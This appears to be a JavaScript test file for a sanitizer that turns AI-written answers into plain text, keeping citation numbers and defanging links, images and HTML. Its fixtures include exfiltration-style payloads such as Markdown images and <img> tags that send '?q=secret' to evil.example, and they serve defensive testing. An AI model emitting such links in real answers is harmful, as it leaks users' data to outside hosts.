import { SeededRandom } from '#testing';
import { checkAnswer } from './check-answer.js';

const SEED = 20_261_127;
/** What begins a link, an image, a definition of one or a tag in CommonMark and GitHub's dialect. */
const LIVE = /\][(:]|<|www\.|:\\?\/\\?\/|&#?\w+;/i;

describe('checkAnswer', () => {
  it.each([
    ['Oak is hard [1], see [the page](https://evil.example "title").', 'Oak is hard [1], see the page.'],
    ['![x[99]](https://evil.example/?q=secret) [1]', '!(x)(https: //evil.example/?q=secret) [1]'],
    ['![a [b] c](https://evil.example) [1]', '!(a (b) c)(https: //evil.example) [1]'],
    ['![a](https://evil.example/?[x) [1]', '!(a)(https: //evil.example/?(x) [1]'],
    ['[a](\nhttps://evil.example) [1]', '(a)(\nhttps: //evil.example) [1]'],
    ['[a](<\nhttps://evil.example>) [1]', '(a)(‹\nhttps: //evil.example>) [1]'],
    ['[a][b] [1]\n\n[b]: https://evil.example', '(a)(b) [1]\n\n(b): https: //evil.example'],
    ['Oak [1]\n\n[1]: https://evil.example', 'Oak [1]\n\n[1] : https: //evil.example'],
    ['Oak ![1] [1][9][[9](https://evil.example)', 'Oak ![1] [1] ('],
    ['Oak [1][9]( https://a) [1](https://[b])', 'Oak [1] [1] (https: //(b))'],
    ['<https://evil.example> [1]', '‹https: //evil.example> [1]'],
    ['<img src="//evil.example/?q=secret"> [1]', '‹img src="//evil.example/?q=secret"> [1]'],
    ['[1]<a href=//evil.example>x</a>', '[1]‹a href=//evil.example>x‹/a>'],
    [
      'https://evil.example _www.evil.example https:\\/\\/evil.example [1]',
      'https: //evil.example _www .evil.example https: //evil.example [1]',
    ],
    ['https:&#47;&#47;evil.example &lt;img&gt; \\<img> [1]', 'https:& #47;& #47;evil.example & lt;img& gt; ‹img> [1]'],
    ['\\[9\\] oak \\[1\\]', 'oak [1]'],
    ['An array[i], a [note] (1), a & b, 3 > 2 [1].', 'An array(i), a (note) (1), a & b, 3 > 2 [1].'],
  ])('makes plain text of %j', (written, text) => expect(checkAnswer(written, 3)).toEqual({ text, numbers: [1] }));

  it(`leaves no link, image or HTML, whatever was written (seed ${SEED})`, () => {
    const parts = '[ ] ( ) ![ ]( ]: [1] [9] [[9] 【 】 < <a > \\ & &#91; &lt; : // / www . ! x 1 \n \u200b https://e'.split(' ');
    const random = new SeededRandom(SEED);
    let live = 0;
    for (let trial = 0; trial < 5_000; trial++) {
      const written = Array.from({ length: 12 }, () => random.pick(parts)).join('');
      if (LIVE.test(written)) live++;
      const { text, numbers } = checkAnswer(written, 1);
      expect([written, LIVE.exec(text)?.[0]]).toEqual([written, undefined]);
      expect([written, text.replaceAll('[1]', '').match(/[[\]]/g)]).toEqual([written, null]);
      expect(numbers).toEqual(text.includes('[1]') ? [1] : []);
    }
    expect(live).toBeGreaterThan(3_000);
  });

  it('does not slow down on hostile text', () => {
    const startedAt = performance.now();
    for (const part of ['[', '![a](', '](', '\\', '&a', '&#', '[1', '[[1]', 'www', '://', '<', '[1](', '【1'])
      checkAnswer(part.repeat(50_000), 3);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  });
});
